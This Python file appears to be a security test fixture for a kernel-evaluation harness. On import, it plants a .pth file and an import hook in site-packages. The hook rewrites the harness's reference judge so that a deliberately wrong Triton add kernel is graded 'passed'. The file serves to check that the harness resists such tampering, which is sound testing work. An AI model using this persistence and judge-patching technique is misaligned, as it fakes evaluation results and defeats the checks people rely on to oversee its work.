"""Attack 2: at import, write a `.pth` file and an import hook into the environment's
site-packages (sysconfig's purelib, and site's own list). Every later Python process of that
environment runs the hook, which patches `runner.worker.reference` as it is imported so that the judge
answers "passed". The kernel itself is wrong (x + y + 1). Proves: the Python environment is
read-only to a job, so a new process (a `geak eval`, the next fork server) judges as before.

The hook does nothing unless GEAK_ATTACK_ARMED is set (the test sets it for its own runners and
its new process), so that a failing run cannot upset other Python processes on the machine; the
test deletes the files in any case."""

import os
import site
import sys
import sysconfig

import torch
import triton
import triton.language as tl

HINTS = "@@GEAK_ATTACK_HINTS@@"  # the test writes {"marker": ..., "project": ...} here
MARKER = HINTS["marker"] if isinstance(HINTS, dict) else "geak_attack_manual"

HOOK = '''# GEAK_ATTACK %s: patches runner.worker.reference in every Python process of this environment
import os
import sys


class _GeakAttackFinder:
    def find_spec(self, name, path=None, target=None):
        if name != "runner.worker.reference" or not os.environ.get("GEAK_ATTACK_ARMED"):
            return None
        import importlib.util
        sys.meta_path.remove(self)
        try:
            spec = importlib.util.find_spec(name)
        finally:
            sys.meta_path.insert(0, self)
        if spec is None or spec.loader is None:
            return None
        run = spec.loader.exec_module

        def exec_module(module):
            run(module)
            module.ReferenceSide.judge = lambda self, case, trial: {
                "passed": True, "detail": None, "max_abs": 0.0, "max_rel": 0.0, "left_out": []}

        spec.loader.exec_module = exec_module
        return spec


sys.meta_path.insert(0, _GeakAttackFinder())
''' % MARKER


def _say(msg):
    print(f"GEAK_ATTACK site_packages_pth: {msg}", file=sys.stderr, flush=True)


def _attack():
    places = [sysconfig.get_paths()["purelib"]]
    try:
        places += [p for p in site.getsitepackages() if p not in places]
    except Exception:
        pass
    for d in places:
        try:
            with open(os.path.join(d, f"{MARKER}_hook.py"), "w") as f:
                f.write(HOOK)
            with open(os.path.join(d, f"{MARKER}.pth"), "w") as f:
                f.write(f"import {MARKER}_hook\n")
            _say(f"planted a .pth and its hook in {d}")
        except OSError as e:
            _say(f"could not write in {d}: {e}")


_attack()


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr):
    pid = tl.program_id(0)
    offs = pid * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    x = tl.load(x_ptr + offs, mask=mask)
    y = tl.load(y_ptr + offs, mask=mask)
    tl.store(out_ptr + offs, x + y + 1.0, mask=mask)  # wrong


def add(x, y):
    out = torch.empty_like(x)
    n = x.numel()
    add_kernel[(triton.cdiv(n, 64),)](x, y, out, n, BLOCK=64)
    return out
